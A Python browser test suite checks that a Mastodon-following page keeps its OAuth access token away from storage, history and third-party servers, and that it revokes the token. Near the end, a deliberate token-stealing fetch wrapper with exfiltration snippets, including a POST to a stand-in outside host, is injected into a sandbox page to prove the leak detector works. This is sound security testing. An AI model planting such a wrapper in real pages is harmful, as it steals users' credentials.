"""The token goes to the visitor's own server, to no other, and is revoked.

The tests search every byte on the wire and every place in which a page can store data. The same
search over pages that do leak proves that it finds leaks.
"""

import json
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from care100.sandbox import Fault, Sandbox
from tests.browser.follow.conftest import Publish
from tests.browser.follow.visitor import FOLLOW, TITLE, Visitor, members, site_of
from tests.browser.follow.wire import Wire

PLACES = """async () => ({
  localStorage: JSON.stringify({ ...localStorage }),
  sessionStorage: JSON.stringify({ ...sessionStorage }),
  "document.cookie": document.cookie,
  "the window's name": window.name,
  "the address": location.href,
  "the history's state": JSON.stringify(history.state),
  "the document": document.documentElement.outerHTML,
  "a field": JSON.stringify([...document.querySelectorAll("input")].map((one) => one.value)),
  "a database": JSON.stringify((await indexedDB.databases()).map((one) => one.name)),
  "a cache": JSON.stringify(await caches.keys()),
})"""


@pytest.fixture
def page(recorded_page: Page) -> Page:
    return recorded_page


def secrets(wire: Wire, server: str) -> dict[str, str]:
    """Return what only the visitor's server and this page may know, from the wire.

    The client secret is not among it: the page keeps its registration, which allows nothing.
    """
    found = {}
    for one in wire.to(server):
        if one.path == "/oauth/token":
            found["token"] = json.loads(one.received)["access_token"]
            fields = dict(
                pair.split("=", 1) for pair in one.sent.decode().split("\n")[-1].split("&")
            )
            found["verifier"] = fields["code_verifier"]
    assert set(found) == {"token", "verifier"}
    return found


def history(page: Page) -> str:
    """Return every address in this tab's history."""
    session = page.context.new_cdp_session(page)
    entries = session.send("Page.getNavigationHistory")["entries"]
    session.detach()
    return " ".join(value for one in entries for value in one.values() if isinstance(value, str))


def leaks(visitor: Visitor, wire: Wire) -> set[str]:
    """Return each place that has a secret and must not; empty when there is none."""
    server, page = visitor.server.domain, visitor.page
    stored: dict[str, str] = {
        **page.evaluate(PLACES),
        "the cookies": json.dumps(page.context.cookies()),
        "the history": history(page),
    }
    found = {"code in the history"} if "code=" in stored["the history"] else set()
    for name, secret in secrets(wire, server).items():
        found |= {f"{name} in {place}" for place, text in stored.items() if secret in text}
        found |= {
            f"{name} to {one.server}{one.path}"
            for one in wire.not_to(server)
            if secret.encode() in one.sent
        }
        found |= {
            f"{name} in an address at {one.path}"
            for one in wire.to(server)
            if secret in one.sent.decode().partition("\n")[0]
        }
    return found


def follow_with_list(visitor: Visitor) -> None:
    """Follow every member and add them to a list."""
    visitor.open()
    visitor.list_box.check()
    visitor.submit()
    visitor.approve()
    visitor.wait_for_heading("Done on")


def test_a_token_goes_only_to_the_visitors_server(
    sandbox: Sandbox, publish: Publish, wire: Wire
) -> None:
    visitor = publish(12)
    follow_with_list(visitor)
    assert not leaks(visitor, wire)
    visitor.wait_for_revocation()
    token = secrets(wire, visitor.server.domain)["token"]
    assert token not in sandbox.mastodon.state.tokens
    servers = {one.server for one in wire.exchanges}
    assert servers == {visitor.server.domain, urlsplit(visitor.address).netloc}
    # Nor when the visitor opens the page again.
    visitor.open()
    assert not leaks(visitor, wire)
    assert len(sandbox.mastodon.state.members("follower", TITLE)) == 12


def test_a_token_follows_no_redirect(sandbox: Sandbox, publish: Publish, wire: Wire) -> None:
    """A server that redirects requests to another server."""
    elsewhere = f"{sandbox.x.url}/taken"
    for path in (FOLLOW, "/relationships$", "/lookup$", "/oauth/revoke$"):
        sandbox.mastodon.faults.add(Fault("redirect", path=path, skip=1, location=elsewhere))
    visitor = publish(6)
    visitor.page.clock.install()
    visitor.follow()
    visitor.wait_for_heading("Done on", after=lambda: visitor.advance(5_000))
    assert not leaks(visitor, wire)
    assert urlsplit(sandbox.x.url).netloc not in {one.server for one in wire.exchanges}


@pytest.mark.parametrize("leaving", ["for another page", "to reload it", "by closing the tab"])
def test_a_token_is_revoked_when_the_page_is_left(
    publish: Publish, wire: Wire, leaving: str
) -> None:
    visitor = publish(12)
    visitor.hold_follows(after=4)
    visitor.follow()
    visitor.wait_for_held_follows(after=4)
    assert visitor.active_tokens == 1
    if leaving == "for another page":
        visitor.page.goto("about:blank")
    elif leaving == "to reload it":
        visitor.page.reload()
    else:
        context = visitor.page.context
        visitor.page.close(run_before_unload=True)
        visitor.page = context.new_page()
    visitor.wait_for_revocation()
    token = secrets(wire, visitor.server.domain)["token"]
    assert not [one for one in wire.not_to(visitor.server.domain) if token.encode() in one.sent]


def test_a_failed_revocation_is_repeated_when_the_page_is_left(
    sandbox: Sandbox, publish: Publish
) -> None:
    sandbox.mastodon.faults.add(Fault("status", path="/oauth/revoke$", status=503))
    visitor = publish(1)
    visitor.follow()
    visitor.wait_for_heading("Done on")
    text = f"{visitor.server.domain} did not revoke the permission. "
    expect(
        visitor.page.get_by_text(text + "This page will try again when you leave it.")
    ).to_be_visible()
    assert visitor.active_tokens == 1
    visitor.page.goto("about:blank")
    visitor.wait_for_revocation()


LEAKS = {
    "in localStorage": "localStorage.setItem('kept', token)",
    "in sessionStorage": "sessionStorage.setItem('kept', token)",
    "in document.cookie": "document.cookie = `kept=${token}`",
    "in the cookies": "document.cookie = `too=${token}; path=/static/`",
    "in the window's name": "window.name = token",
    "in the document": "document.body.append(token)",
    "in a field": "document.querySelector('input').value = token",
    "in a database": "indexedDB.open(token)",
    "in a cache": "await caches.open(token)",
    "in the history": "location.hash = token",
    "in the history's state": "history.replaceState({ token }, '')",
    "to SITE/body": "fetch('/body', { method: 'POST', body: token })",
    "to SITE/query": "fetch(`/query?${token}`)",
    "to SITE/beacon": "navigator.sendBeacon('/beacon', token)",
    "to SITE/picture": "new Image().src = `/picture?${token}`",
    "to X/taken": "fetch('http://X/taken', { mode: 'no-cors', method: 'POST', body: token })",
    "in an address at /path": "fetch(new URL(`/path?${token}`, address), { mode: 'no-cors' })",
}
TAP = """
const real = fetch;
globalThis.fetch = async (address, options) => {
  const answer = await real(address, options);
  if (!String(address).endsWith("/oauth/token")) return answer;
  const { access_token: token } = await answer.clone().json();
  LEAKS
  return answer;
};
"""


def test_the_search_finds_every_leak(sandbox: Sandbox, publish: Publish, wire: Wire) -> None:
    x = urlsplit(sandbox.x.url).netloc
    files = site_of(members(sandbox.mastodon, [1]))
    tap = TAP.replace("LEAKS", ";\n  ".join(LEAKS.values())).replace("//X/", f"//{x}/")
    files["static/search.js"] = tap.encode()
    visitor = publish(files)
    visitor.open()
    visitor.submit()
    visitor.approve()
    visitor.wait_for_heading("Done on")
    site = urlsplit(visitor.address).netloc
    left = {f"token {place}".replace("SITE", site).replace("X/", f"{x}/") for place in LEAKS}
    sent = {one for one in left if " to " in one}
    visitor.wait_until(lambda: sent <= leaks(visitor, wire))
    assert not left - leaks(visitor, wire)
